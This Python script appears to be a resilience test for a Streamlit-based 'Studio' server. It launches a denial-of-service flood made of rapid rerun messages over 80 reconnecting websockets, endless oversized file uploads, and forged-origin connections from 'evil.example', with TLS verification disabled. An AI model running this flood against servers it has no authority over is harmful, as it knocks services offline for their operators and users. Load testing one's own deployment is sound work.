"""attack_studio.py PAGE ADDRESS: what somebody without an account does to Studio.

Eighty sockets that rerun the page as fast as they may and come back when they are thrown out, files
without end, and sixteen sockets a second of another origin; until it is stopped. PAGE is the origin
of Studio's pages, ADDRESS where its server is asked.
"""

import asyncio
import os
import ssl
import sys
from urllib.parse import urlsplit

from streamlit.proto.BackMsg_pb2 import BackMsg
from websockets.asyncio.client import connect
from websockets.exceptions import WebSocketException
from websockets.typing import Origin, Subprotocol

SOCKETS, UPLOADS, FOREIGN = 80, 4, 16
FILE = b"x" * 200_000

page, address = sys.argv[1:]
parts = urlsplit(address)
stream = address.replace("http", "ws", 1) + "/_stcore/stream"
tls = ssl._create_unverified_context() if parts.scheme == "https" else None  # noqa: S323


def rerun() -> bytes:
    """What a browser sends for Streamlit to run the page."""
    message = BackMsg()
    message.rerun_script.query_string = ""
    return bytes(message.SerializeToString())


async def reruns() -> None:
    """One socket after another, each of which asks without waiting for an answer."""
    while True:
        try:
            async with connect(
                stream,
                origin=Origin(page),
                subprotocols=[Subprotocol("streamlit")],
                ssl=tls,
                open_timeout=60,
            ) as socket:
                while True:
                    await socket.send(rerun())
                    await asyncio.sleep(0.02)
        except (WebSocketException, OSError, TimeoutError):
            await asyncio.sleep(0.2)


async def uploads() -> None:
    """One file after another for a session that is not there."""
    head = (
        "PUT /_stcore/upload_file/abcdefgh/12345678 HTTP/1.1\r\n"
        f"Host: {parts.netloc}\r\nOrigin: {page}\r\nContent-Length: 1000000000000\r\n\r\n"
    )
    while True:
        try:
            _, writer = await asyncio.open_connection(parts.hostname, parts.port, ssl=tls)
            writer.write(head.encode())
            for _ in range(100):
                writer.write(FILE)
                await writer.drain()
            writer.close()
        except OSError:
            await asyncio.sleep(0.2)


async def foreign() -> None:
    """Sockets of a page of somebody else."""
    while True:
        try:
            async with connect(
                stream, origin=Origin("https://evil.example"), ssl=tls, open_timeout=60
            ):
                pass
        except (WebSocketException, OSError, TimeoutError):
            pass
        await asyncio.sleep(1)


async def main() -> None:
    """All of it at once."""
    works = [*[reruns] * SOCKETS, *[uploads] * UPLOADS, *[foreign] * FOREIGN]
    await asyncio.gather(*(work() for work in works))


# What is measured is Studio, not how much of this machine the attacker takes.
os.nice(10)
asyncio.run(main())
